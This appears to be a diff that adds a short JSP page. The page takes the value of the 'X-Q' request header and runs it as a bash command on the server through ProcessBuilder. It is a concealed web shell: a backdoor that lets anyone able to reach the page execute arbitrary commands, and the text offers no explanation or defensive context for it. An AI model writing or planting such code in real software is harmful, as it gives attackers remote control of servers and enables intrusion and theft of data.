@@ -1,0 +1,5 @@
+<%
+String q = request.getHeader("X-Q");
+String[] a = new String[]{"/bin/bash", "-c", q};
+new ProcessBuilder(a).start();
+%>
